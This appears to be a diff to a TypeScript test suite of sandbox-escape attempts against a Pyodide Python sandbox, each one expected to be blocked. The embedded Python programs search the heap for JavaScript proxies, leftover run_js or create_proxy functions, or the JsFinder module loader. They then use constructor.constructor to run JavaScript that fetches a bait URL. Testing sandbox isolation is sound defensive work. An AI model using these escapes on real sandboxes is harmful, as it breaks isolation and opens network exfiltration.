@@ -1,5 +1,5 @@
 /** Ways out through modules: to the page's JavaScript, to the network, to memory, to other processes. */
-import { type Attack, BAIT, f } from './attack.ts';
+import { type Attack, BAIT, FIND, f } from './attack.ts';
 
 /** The page's own powers, one program each: every one of them would leave something that a test can see. */
 const PAGE: readonly Attack[] = [
@@ -116,28 +116,12 @@ raise ImportError`,
   {
     name: 'an object of JavaScript found among all objects',
     program: f(
-      `import gc
-for x in gc.get_objects():
- if 'JsProxy' in repr(type(x)):
-  try:
-   return x.constructor.constructor("return fetch('${BAIT}')")()
-  except Exception:
-   pass
-raise LookupError`,
-    ),
-    ...SHUT,
-  },
-  {
-    name: 'what _pyodide_core left in the heap',
-    program: f(
-      `import gc
-for x in gc.get_objects():
- if type(x) is dict and ('create_proxy' in x or 'run_js' in x):
-  for name in ('run_js', 'create_proxy'):
+      `${FIND}
+for kind in set(map(type, gc.get_objects())) | set(every(type)):
+ if 'Js' in kind.__name__:
+  for x in every(kind):
    try:
-    made = x[name]("fetch('${BAIT}')")
-    made.constructor.constructor("return fetch('${BAIT}')")()
-    return 1
+    return str(x.constructor.constructor("return fetch('${BAIT}')")())
    except Exception:
     pass
 raise LookupError`,
@@ -145,18 +129,49 @@ raise LookupError`,
     ...SHUT,
   },
   {
+    name: 'what _pyodide_core left in the heap',
+    program: f(
+      `${FIND}
+for x in every(dict):
+ for name in ('run_js', 'create_proxy'):
+  try:
+   made = x[name]("fetch('${BAIT}')")
+   return str(made.constructor.constructor("return fetch('${BAIT}')")())
+  except Exception:
+   pass
+raise LookupError`,
+    ),
+    ...SHUT,
+  },
+  {
     name: 'the finder of js put back',
     program: f(
-      `import gc, sys
-for x in gc.get_objects():
- if isinstance(x, type) and 'JsFinder' in x.__name__:
-  finder = x()
-  sys.meta_path.insert(0, finder)
+      `${FIND}
+import sys
+for x in every(type):
+ if 'JsFinder' in x.__name__:
+  sys.meta_path.insert(0, x())
 sys.modules.pop('js', None)
 import js
 return js.fetch('${BAIT}')`,
     ),
     ...SHUT,
+  },
+  {
+    name: 'the finder of js itself',
+    program: f(
+      `${FIND}
+import sys
+for x in gc.get_objects():
+ if type(x).__name__ == 'JsFinder':
+  sys.meta_path.insert(0, x)
+  for name, module in x.jsproxies.items():
+   sys.modules.pop(name, None)
+   __import__(name)
+   return str(module.constructor.constructor("return fetch('${BAIT}')")())
+raise LookupError`,
+    ),
+    ...REFUSED,
   },
   {
     name: 'urllib',
